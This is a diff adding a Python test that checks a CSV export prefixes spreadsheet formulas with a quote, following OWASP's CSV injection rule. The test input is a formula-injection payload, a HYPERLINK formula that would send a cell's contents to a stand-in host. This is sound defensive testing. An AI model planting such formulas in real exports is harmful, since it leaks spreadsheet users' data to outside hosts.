@@ -209,6 +209,11 @@ def test_export_grouping_and_formats(tmp_path: Path) -> None:
     # booleans as JSON Lines writes them (and loaders read them): true/false, not Python's True/False
     assert (first["stream"], first["cached"], first["audit"]) == (str(evs[0].stream).lower(),
                                                                   str(evs[0].cached).lower(), "false")
+    # a text a spreadsheet would run as a formula is quoted (a client's own model string; OWASP's CSV rule)
+    formula = replace(evs[0], requested_model='=HYPERLINK("https://x.example/?"&A2)')
+    rows_f, cols_f = ex.build([formula], [])
+    ex.write_file(rows_f, cols_f, "csv", out, io.BytesIO())
+    assert next(csv.DictReader(io.StringIO(out.read_text())))["requested_model"] == "'" + formula.requested_model
 
 
 async def test_record_many_one_pipeline_counts_once_and_reloads_a_flushed_script(redis_url: str, redis_prefix: str,
